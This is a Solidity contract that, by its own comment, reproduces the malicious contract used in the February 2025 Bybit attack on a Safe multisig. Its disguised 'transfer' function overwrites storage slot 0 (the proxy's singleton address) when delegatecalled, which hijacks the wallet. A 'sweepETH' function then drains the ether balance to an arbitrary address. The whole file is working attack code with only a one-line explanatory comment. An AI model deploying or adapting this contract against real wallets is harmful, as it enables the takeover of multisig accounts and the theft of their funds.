// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

/// What the Bybit attacker had the Safe DELEGATECALL (February 2025): a "transfer" whose body writes its first
/// argument into slot 0, which in a Safe proxy is the singleton. After it the Safe runs the attacker's code.
contract SafeSweeper {
    address private _masterCopy;

    function transfer(address recipient, uint256) external {
        _masterCopy = recipient;
    }

    function sweepETH(address payable to) external {
        to.transfer(address(this).balance);
    }
}
